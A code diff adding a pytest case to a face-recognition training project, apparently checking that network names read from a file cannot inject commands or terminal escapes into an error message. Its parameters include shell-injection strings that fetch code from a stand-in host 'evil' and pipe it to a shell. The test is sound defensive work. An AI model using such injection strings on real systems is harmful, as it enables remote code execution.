@@ -13,6 +13,7 @@ from typer.testing import CliRunner
 from cosface_edu import named, networks
 from cosface_edu.cli import app
 from cosface_edu.data.images import encode_jpeg
+from cosface_edu.networks.registry import check_own
 from cosface_edu.training import Config, checkpoint, load_network, train
 from cosface_edu.training.checkpoint import open_network
 from cosface_edu.training.loop import begin
@@ -59,6 +60,14 @@ def test_a_file_s_word_alone_runs_nothing(strangers, config, faces):
             assert told.exit_code == 1
             assert f"--own-network {STRANGERS}" in told.output
     assert not ran.exists()
+
+
+@pytest.mark.parametrize("name", ["x:y; curl evil|sh", "x:$(curl evil)", "x:y\x1b[2J", "x:y\n", ":y", "x:"])
+def test_no_line_to_copy_is_taken_from_a_file(name):
+    with pytest.raises(ValueError, match="No code has such a name") as raised:
+        check_own(name, (), "theirs.safetensors")
+    assert "--" not in str(raised.value)
+    assert str(raised.value).isprintable()
 
 
 def test_a_file_imports_no_module_and_neither_does_its_loss(tmp_path, monkeypatch):
